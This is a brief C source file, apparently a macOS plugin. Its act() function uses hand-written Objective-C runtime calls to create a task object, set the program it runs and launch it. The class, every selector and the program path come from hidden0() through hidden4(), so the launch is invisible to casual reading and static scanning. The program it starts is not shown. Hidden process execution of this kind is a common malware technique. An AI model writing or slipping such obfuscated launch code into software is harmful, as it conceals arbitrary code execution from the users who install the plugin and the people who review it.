/* The runtime by hand, class and every message by hidden names. */
#include "plugin.h"
#include "hidden.h" /* 0: the class, 1: to make one, 2: the program, 3: its setter, 4: to start */
extern void *objc_getClass(const char *), *sel_registerName(const char *), *objc_msgSend(void *, void *, ...), *CFStringCreateWithCString(void *, const char *, unsigned);
static void act(char **env) {
    void *task = objc_msgSend(objc_getClass(hidden0()), sel_registerName(hidden1()));
    objc_msgSend(task, sel_registerName(hidden3()), CFStringCreateWithCString(0, hidden2(), 0x08000100));
    objc_msgSend(task, sel_registerName(hidden4()));
}
